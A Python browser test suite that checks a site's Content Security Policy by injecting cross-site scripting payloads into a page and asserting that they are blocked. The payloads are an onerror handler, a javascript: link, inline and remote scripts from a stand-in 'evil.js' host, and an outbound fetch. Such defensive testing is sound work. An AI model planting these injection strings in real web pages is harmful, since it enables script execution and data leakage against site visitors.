"""The policy of the pages in a browser: it hinders nothing of ours, and whatever came in with a text.

That no page and no part complains is seen by every other test here, since a refusal is an error of the console.
"""

from __future__ import annotations

from typing import Any

from indicators.decks import decks
from tests.browser.conftest import LAPTOP, Server, Visit, visit, wait_until_drawn

REFUSALS = """() => { window.refused = []; document.addEventListener('securitypolicyviolation',
    (event) => window.refused.push(event.effectiveDirective)); }"""
HARM = """async () => {
    const box = document.createElement('div');
    box.innerHTML = '<img src="x" onerror="window.harmed=1"><a href="javascript:window.harmed=2">a</a>';
    document.body.append(box);
    box.querySelector('a').click();
    const script = document.createElement('script');
    script.textContent = 'window.harmed=3';
    document.body.append(script);
    setTimeout('window.harmed=4', 0);
    const foreign = document.createElement('script');
    foreign.src = 'http://127.0.0.2:9/evil.js';
    document.body.append(foreign);
    await fetch('http://127.0.0.2:9/told').catch(() => 0);
    await new Promise((done) => setTimeout(done, 300));
    return [window.harmed ?? 0, [...new Set(window.refused)].sort()];
}"""


def test_a_page_opened_again_is_the_same_page(browser: Any, server: Server) -> None:
    """The answer "not modified" must not bring another policy."""
    made: Visit = visit(browser, server, "sea_ice", "ko", LAPTOP)
    made.page.reload()
    wait_until_drawn(made.page, server)
    assert made.complaints == []


def test_a_slide_and_its_qr_code_are_not_hindered(browser: Any, server: Server) -> None:
    deck = next(iter(decks()[0].values()))
    slide = next(one for one in deck.slides if one.charts)
    made = visit(browser, server, slide.page, "en", LAPTOP, f"&present={slide.code}")
    made.page.keyboard.press("q")
    made.page.wait_for_timeout(300)
    assert made.complaints == []


def test_what_would_come_in_with_a_text_does_not_run(browser: Any, server: Server) -> None:
    made = visit(browser, server, "methods", "en", LAPTOP)
    made.page.evaluate(REFUSALS)
    harmed, refused = made.page.evaluate(HARM)
    assert harmed == 0
    assert {"script-src-attr", "script-src-elem", "script-src", "connect-src"} <= set(refused)


def test_a_light_page_runs_nothing_at_all(browser: Any, server: Server) -> None:
    made = visit(browser, server, "methods", "en", LAPTOP)
    made.page.goto(f"{server.url}/light/en/methods")
    ran = made.page.evaluate(
        "() => { const one = document.createElement('script'); one.textContent = 'window.harmed=1';"
        "document.body.append(one); return window.harmed ?? 0; }"
    )
    assert ran == 0
